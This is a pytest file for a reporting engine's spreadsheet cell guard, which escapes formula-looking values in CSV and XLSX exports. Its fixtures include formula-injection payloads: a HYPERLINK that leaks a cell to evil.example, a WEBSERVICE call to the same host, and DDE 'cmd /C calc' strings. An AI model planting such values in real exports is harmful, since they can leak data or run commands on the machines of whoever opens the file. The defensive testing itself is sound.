"""One cell guard for every CSV and XLSX the engine writes.

* Every module that writes a CSV or a workbook is found by reading the
  engine's source: it must write through the guard (``csv_writer``,
  ``save_workbook``), never ``csv.writer`` or ``Workbook.save`` of its own,
  and it must be listed in ``WRITERS`` with the test that feeds it
  formula-looking values; a new writer fails here until it is.
* The guard itself gets formula-looking text in every column of a CSV and in
  every cell of a workbook; the engine's own formulas stay formulas.
* The case found in use: ``crm loyalty statement --format csv`` with an
  idempotency key a till set to ``=HYPERLINK(...)``.
"""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine

from engine.reporting import csv_writer, save_workbook
from engine.reporting.spreadsheet import FORMULA_STARTS, formula_safe, is_engine_formula
from tests.cli.test_cli import crm
from tests.loyalty.ledger_setup import SHOP, customers

ENGINE = Path(__file__).resolve().parents[2] / "engine"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=[1]Sheet1!A1",
    '=WEBSERVICE("http://evil.example")',
]
#: formula-looking text that cannot call out; a writer's own formula_safe makes it text, the backstop keeps it
HARMLESS = ["=1+1", "=A1"]

#: every module that writes a CSV or a workbook, and the tests that feed it formula-looking values
WRITERS = {
    "engine/budget/workbook.py": "tests/budget/test_workbook.py::test_user_text_never_becomes_a_formula",
    "engine/channels/call_list.py": "tests/channels/test_call_list.py::test_cells_cannot_carry_formulas",
    "engine/channels/list_file.py": "tests/channels/test_call_list.py::test_cells_cannot_carry_formulas",
    "engine/cli/budget.py": "tests/budget/test_budget_cli.py (csv) and the guard tests here",
    "engine/cli/loyalty.py": "test_a_statement_csv_never_carries_a_formula (here)",
    "engine/cli/report_emit.py": "tests/loyalty/finance/test_finance.py (hostile partner names)",
    "engine/customers/importing/rejects.py": "tests/customers/test_import_customers.py (formula cells)",
    "engine/demo/responses.py": "demo data: written through csv_writer",
}

#: the guard's own modules: the only ones that may call csv.writer and Workbook.save
GUARD = {"engine/reporting/spreadsheet.py", "engine/reporting/files.py"}


def _writes(tree: ast.AST) -> tuple[set[str], set[str]]:
    """(guarded writes, raw writes) called in a module."""
    guarded: set[str] = set()
    raw: set[str] = set()
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else ""
        owner = func.value.id if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) else ""
        if name in ("csv_writer", "save_workbook"):
            guarded.add(name)
        elif (owner == "csv" and name in ("writer", "DictWriter")) or name in ("to_csv", "to_excel"):
            raw.add(f"{owner}.{name}")
        elif name == "save" and owner in ("workbook", "book", "wb"):
            raw.add(f"{owner}.save")
    return guarded, raw


def test_every_writer_goes_through_the_guard_and_is_listed() -> None:
    found: dict[str, set[str]] = {}
    for path in sorted(ENGINE.rglob("*.py")):
        module = str(path.relative_to(ENGINE.parent))
        guarded, raw = _writes(ast.parse(path.read_text(encoding="utf-8")))
        if module in GUARD:
            continue
        assert not raw, f"{module} writes {sorted(raw)} around the cell guard: use csv_writer / save_workbook"
        if guarded:
            found[module] = guarded
    assert set(found) == set(WRITERS), (
        f"writers not listed: {sorted(set(found) - set(WRITERS))}; "
        f"listed but gone: {sorted(set(WRITERS) - set(found))}"
    )


def _text_cells_are_safe(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or formula_safe(cell) == cell, cell


def test_the_csv_guard_covers_every_column() -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer, delimiter=";")
    writer.writerow([f"h{n}" for n in range(len(HOSTILE))])
    writer.writerows([HOSTILE + HARMLESS, list(reversed(HOSTILE + HARMLESS))])
    writer.writerow([12, -5, None, "+7 916 123-45-67", "-100.50", "Анна", "", "x", "y", "z", "w"])
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    for row in rows[1:3]:
        assert all(cell.startswith("'") for cell in row), row
        _text_cells_are_safe(row)
    assert rows[3][:6] == [
        "12",
        "-5",
        "",
        "+7 916 123-45-67",
        "-100.50",
        "Анна",
    ]  # numbers and phones as they are


def test_the_workbook_guard_covers_every_cell_and_keeps_the_engines_formulas(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Lines"
    own = [
        '=IF(D3=0,"",I3/D3)',
        "=ROUND(F2*G2,2)",
        "=SUM(B2:B9)",
        "=MAX(0,H2-I2-J2)",
        "=Lines!N4",
        "=IF('Customers 2027'!B2=0,\"\",'Customers 2027'!C2/'Customers 2027'!B2)",
        "=C2+D2+E2",
    ]
    for column, value in enumerate(HOSTILE, start=1):
        sheet.cell(row=1, column=column, value=value)
    for column, value in enumerate(own, start=1):
        sheet.cell(row=2, column=column, value=value)
    second = workbook.create_sheet("Notes")
    second.append(HOSTILE)
    path = save_workbook(workbook, tmp_path / "w.xlsx")

    saved = load_workbook(path)
    for name in ("Lines", "Notes"):
        for value in [cell.value for cell in saved[name][1]]:
            assert isinstance(value, str) and value.startswith("'"), (name, value)
    kept = saved["Lines"][2][: len(own)]
    assert [cell.value for cell in kept] == own  # still formulas
    assert all(cell.data_type == "f" for cell in kept)


@pytest.mark.parametrize(
    "formula",
    [
        *(h for h in HOSTILE if h.startswith(("=", "+", "-", "@"))),
        '=HYPERLINK("x")',
        '=IF(A1=0,"x","")',
        "=WEBSERVICE(A1)",
    ],
)
def test_formulas_that_can_call_out_are_not_the_engines(formula: str) -> None:
    """Another function, text other than "", a link to another file, DDE: not a formula the engine writes."""
    assert not is_engine_formula(formula.lstrip("\t\r"))


def test_a_statement_csv_never_carries_a_formula(db: Engine, write_config) -> None:  # type: ignore[no-untyped-def]
    """A till sets the idempotency key of an event; finance opens the statement in a spreadsheet."""
    birthday = '  { name = "birthday", on = "birthday", points = 100 },\n'
    write_config(
        SHOP.replace("pending_days = 14", "pending_days = 0").replace("earn = [\n", "earn = [\n" + birthday)
    )
    customers(db, "C-1")
    for number, hostile in enumerate(HOSTILE[:4]):
        key = hostile + str(number)
        earned = crm("loyalty", "earn", "C-1", "--event", "birthday", "--key", key, "--programme", "shop")
        assert earned.returncode == 0, earned.stderr
    statement = crm("loyalty", "statement", "C-1", "--format", "csv", "--programme", "shop")
    assert statement.returncode == 0, statement.stderr
    rows = list(csv.reader(io.StringIO(statement.stdout)))
    keys = [row[2] for row in rows[1:]]
    assert sorted(keys) == sorted("'" + hostile + str(n) for n, hostile in enumerate(HOSTILE[:4]))
    for row in rows:
        _text_cells_are_safe(row)
    as_json = crm("loyalty", "statement", "C-1", "--format", "json", "--programme", "shop")
    assert {hostile + str(n) for n, hostile in enumerate(HOSTILE[:4])} <= {
        line["key"] for line in json.loads(as_json.stdout)["lines"]
    }  # JSON is data, not a spreadsheet: kept as given
